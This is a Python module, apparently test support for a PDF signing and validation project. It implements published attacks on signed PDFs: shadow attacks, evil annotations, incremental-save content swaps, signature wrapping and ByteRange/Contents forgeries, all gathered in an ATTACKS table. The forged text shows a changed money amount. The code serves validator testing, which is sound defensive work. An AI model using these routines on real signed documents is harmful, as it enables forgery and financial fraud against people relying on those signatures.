"""The published attacks on signed PDFs, made on our own documents: shadow attacks, evil annotation, incremental saving, wrapping, forgery.

Each takes an issued document (or makes one that was prepared by an attacker before it was signed) and returns what the attacker sends.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from typing import Any

import pikepdf
from pyhanko.pdf_utils.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NullObject,
    NumberObject,
    StreamObject,
    TextStringObject,
    pdf_name,
)
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

from deploy.devpki.server import Running
from tests.interop import paper

Attack = Callable[[bytes], bytes]
TEXT = b"q 1 1 1 rg 60 300 480 400 re f 0 g BT /F1 24 Tf 90 600 Td (CHI 100.000.000 DONG) Tj ET Q"


def updated(signed: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    """One more well-formed incremental update."""
    writer = IncrementalPdfFileWriter(io.BytesIO(signed), strict=False)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def first_page(writer: IncrementalPdfFileWriter) -> Any:
    reference, _ = writer.find_page_for_modification(0)
    return reference.get_object()


def replace_content(signed: bytes) -> bytes:
    """Incremental saving: the page's content is another stream."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = first_page(writer)
        page[pdf_name("/Contents")] = writer.add_object(StreamObject(stream_data=TEXT))
        writer.update_container(page)

    return updated(signed, change)


def redefine_stream(signed: bytes) -> bytes:
    """Shadow replace: the object of the page's content is redefined, the page itself stays as it was signed."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        reference = first_page(writer).raw_get("/Contents")
        reference = reference[0] if isinstance(reference, ArrayObject) else reference
        writer.objects[(reference.generation, reference.idnum)] = StreamObject(stream_data=TEXT)
        writer._force_write_when_empty = True

    return updated(signed, change)


def redefine_font(signed: bytes) -> bytes:
    """Shadow replace by the typeface: every glyph shows as another one."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        fonts = first_page(writer)["/Resources"]["/Font"]
        name = next(iter(fonts))
        font = DictionaryObject({pdf_name("/Type"): pdf_name("/Font"), pdf_name("/Subtype"): pdf_name("/Type1")})
        font[pdf_name("/BaseFont")] = pdf_name("/ZapfDingbats")
        reference = fonts.raw_get(name)
        writer.objects[(reference.generation, reference.idnum)] = font
        writer._force_write_when_empty = True

    return updated(signed, change)


def annotate(kind: str) -> Attack:
    """Evil annotation: an annotation of this kind covers the text."""

    def attack(signed: bytes) -> bytes:
        def change(writer: IncrementalPdfFileWriter) -> None:
            page = first_page(writer)
            look = StreamObject(stream_data=b"1 1 1 rg 0 0 300 100 re f")
            for key, value in (("/Type", pdf_name("/XObject")), ("/Subtype", pdf_name("/Form"))):
                look[pdf_name(key)] = value
            look[pdf_name("/BBox")] = ArrayObject(map(FloatObject, (0, 0, 300, 100)))
            annotation = DictionaryObject(
                {
                    pdf_name("/Type"): pdf_name("/Annot"),
                    pdf_name("/Subtype"): NameObject(kind),
                    pdf_name("/Rect"): ArrayObject(map(FloatObject, (120, 420, 420, 520))),
                    pdf_name("/Contents"): TextStringObject("100.000.000"),
                    pdf_name("/DA"): TextStringObject("/Helv 12 Tf 0 g"),
                    pdf_name("/F"): NumberObject(4),
                    pdf_name("/AP"): DictionaryObject({pdf_name("/N"): writer.add_object(look)}),
                }
            )
            annotations = page.get("/Annots", ArrayObject())
            page[pdf_name("/Annots")] = ArrayObject([*annotations, writer.add_object(annotation)])
            writer.update_container(page)

        return updated(signed, change)

    return attack


def sneaky_field(signed: bytes) -> bytes:
    """Sneaky signature: another signature field whose appearance covers the text, without a signature."""
    covered = annotate("/Widget")(signed)

    def change(writer: IncrementalPdfFileWriter) -> None:
        field = first_page(writer)["/Annots"][-1]
        field[pdf_name("/FT")], field[pdf_name("/T")] = pdf_name("/Sig"), TextStringObject("Signature9")
        writer.update_container(field)
        form = writer.root["/AcroForm"]
        form["/Fields"].append(first_page(writer)["/Annots"].raw_get(-1))
        writer.update_container(form["/Fields"])

    return updated(covered, change)


def repeat_page(signed: bytes) -> bytes:
    """Incremental saving: a signed page stands in the page tree once more."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        kids = writer.root["/Pages"]["/Kids"]
        kids.append(kids.raw_get(0))
        writer.root["/Pages"][pdf_name("/Count")] = NumberObject(int(writer.root["/Pages"]["/Count"]) + 1)
        writer.update_container(kids)
        writer.update_container(writer.root["/Pages"])

    return updated(signed, change)


def append_without_table(signed: bytes) -> bytes:
    """Incremental saving without a cross-reference section: some readers find the object nevertheless."""
    (contents,) = re.findall(rb"/Contents\s+(\d+) 0 R", signed)[:1]
    return signed + b"\n%b 0 obj\n<</Length %d>>\nstream\n%b\nendstream\nendobj\n%%%%EOF\n" % (
        contents,
        len(TEXT),
        TEXT,
    )


def last_byte_range(signed: bytes) -> re.Match[bytes]:
    return list(re.finditer(rb"/ByteRange\s*\[\s*0 (\d+) (\d+) (\d+)\s*\]", signed))[-1]


def wrap(signed: bytes) -> bytes:
    """Signature wrapping: the second signed part moves back, between the parts stands what was never signed."""
    found = last_byte_range(signed)
    first, second, rest = (int(found[n]) for n in (1, 2, 3))
    inserted = b"\n9999 0 obj\n<</Length %d>>\nstream\n%b\nendstream\nendobj\n" % (len(TEXT), TEXT)
    numbers = b"/ByteRange [0 %d %d %d]" % (first, second + len(inserted), rest)
    head = signed[: found.start()] + numbers.ljust(len(found[0]))[: len(found[0])] + signed[found.end() : second]
    return head + inserted + signed[second:]


def forge(change: Callable[[bytes], bytes]) -> Attack:
    """Universal forgery: the last signature's dictionary is spoilt so that a careless validator finds nothing to check."""

    def attack(signed: bytes) -> bytes:
        found = last_byte_range(signed)
        spoilt = change(found[0])
        assert len(spoilt) <= len(found[0])
        return signed[: found.start()] + spoilt.ljust(len(found[0])) + signed[found.end() :]

    return attack


def empty_contents(signed: bytes) -> bytes:
    """Universal forgery: /Contents holds zeros."""
    found = last_byte_range(signed)
    first, second = int(found[1]), int(found[2])
    return signed[: first + 1] + b"0" * (second - first - 2) + signed[second - 1 :]


def change_a_byte(signed: bytes) -> bytes:
    at = signed.index(b"stream") + 12
    return signed[:at] + bytes((signed[at] ^ 1,)) + signed[at + 1 :]


def hide(pki: Running) -> tuple[bytes, bytes]:
    """Shadow hide: an attacker's overlay is signed; afterwards its object becomes nothing and what lay below is seen."""
    draft = io.BytesIO(paper.sample("01"))
    with pikepdf.open(draft) as document:
        page = document.pages[0]
        cover = document.make_stream(b"q 1 1 1 rg 60 300 480 300 re f Q")
        cover.stream_dict = pikepdf.Dictionary(
            Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form, BBox=pikepdf.Array([0, 0, 600, 850]), Length=36
        )
        resources = page.obj.Resources
        resources.XObject = pikepdf.Dictionary(Cover=cover)
        page.contents_add(b"/Cover Do")
        out = io.BytesIO()
        document.save(out)
    signed = paper.issue(out.getvalue(), pki)

    def change(writer: IncrementalPdfFileWriter) -> None:
        reference = first_page(writer)["/Resources"]["/XObject"].raw_get("/Cover")
        empty = StreamObject(stream_data=b"")
        for key, value in (("/Type", pdf_name("/XObject")), ("/Subtype", pdf_name("/Form"))):
            empty[pdf_name(key)] = value
        empty[pdf_name("/BBox")] = ArrayObject(map(FloatObject, (0, 0, 600, 850)))
        writer.objects[(reference.generation, reference.idnum)] = empty
        writer._force_write_when_empty = True

    return signed, updated(signed, change)


def hide_and_replace(pki: Running) -> tuple[bytes, bytes]:
    """Shadow hide and replace: the other text lies in the file before it is signed, and is made the page's afterwards."""
    with pikepdf.open(io.BytesIO(paper.sample("01"))) as document:
        document.Root.Spare = document.make_indirect(pikepdf.Array([document.make_stream(TEXT)]))
        out = io.BytesIO()
        document.save(out)
    signed = paper.issue(out.getvalue(), pki)

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = first_page(writer)
        page[pdf_name("/Contents")] = writer.root["/Spare"].raw_get(0)
        writer.update_container(page)

    return signed, updated(signed, change)


def drop_seal(signed: bytes) -> bytes:
    """The seal's field loses its signature: the file claims that nobody sealed."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        for reference in writer.root["/AcroForm"]["/Fields"]:
            field = reference.get_object()
            if field["/T"] == "vanthu_seal":
                field[pdf_name("/V")] = NullObject()
                writer.update_container(field)

    return updated(signed, change)


ATTACKS: dict[str, Attack] = {
    "another content": replace_content,
    "a redefined stream": redefine_stream,
    "a redefined typeface": redefine_font,
    "a free text": annotate("/FreeText"),
    "a stamp": annotate("/Stamp"),
    "a square": annotate("/Square"),
    "a sneaky field": sneaky_field,
    "a page once more": repeat_page,
    "an object without a table": append_without_table,
    "wrapping": wrap,
    "no byte range": forge(lambda _: b""),
    "an empty byte range": forge(lambda _: b"/ByteRange []"),
    "a byte range of nothing": forge(lambda _: b"/ByteRange [0 0 0 0]"),
    "a negative byte range": forge(lambda _: b"/ByteRange [0 -1 9 9]"),
    "empty contents": empty_contents,
    "a changed byte": change_a_byte,
    "no seal any more": drop_seal,
    "another number": paper.change_number,
}
